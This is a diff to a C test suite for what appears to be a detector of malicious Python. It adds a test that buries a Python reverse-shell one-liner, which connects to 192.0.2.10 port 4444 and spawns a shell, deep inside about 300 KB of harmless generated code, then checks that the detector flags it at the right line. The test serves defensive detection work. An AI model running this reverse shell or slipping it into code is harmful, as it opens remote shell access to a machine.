@@ -181,6 +181,42 @@ static void test_renaming(void)
 }
 
 /* Harmless padding does not hide a payload. */
+/*
+ * One short line far within a long text, which has its own weight in no
+ * window: judged by itself too, with its own line number.
+ */
+static void test_short_in_long(void)
+{
+	static const char line[] =
+		"import os,pty,socket;s=socket.socket();"
+		"s.connect(('192.0.2.10',4444));"
+		"[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\n";
+	size_t room = 400000, size = 0;
+	char *text = malloc(room);
+	struct mpy_verdict *v;
+	unsigned int i;
+
+	for (i = 0; size < 300000; i++) {
+		int n = snprintf(text + size, room - size,
+				 "def row_%u(table, width=%u):\n"
+				 "    return [x.strip() for x in table[width]]\n",
+				 i, i * 7 % 90);
+
+		size += (size_t)n;
+		if (i == 1500) {
+			memcpy(text + size, line, sizeof(line) - 1);
+			size += sizeof(line) - 1;
+		}
+	}
+	v = judge(bundle, text, size);
+	CHECK(v->label == MPY_MALICIOUS || v->label == MPY_SUSPICIOUS);
+	for (i = 0; i < v->n_reasons && !v->reasons[i].line; i++)
+		;
+	CHECK(i < v->n_reasons && v->reasons[i].line == 3003);
+	mpy_verdict_free(v);
+	free(text);
+}
+
 static void test_padding(void)
 {
 	size_t evil_size, calm_size, n = 0;
@@ -292,6 +328,7 @@ int main(void)
 	RUN(test_comments);
 	RUN(test_renaming);
 	RUN(test_padding);
+	RUN(test_short_in_long);
 	RUN(test_bad_input);
 	RUN(test_bounds);
 	RUN(test_sink_ends_it);
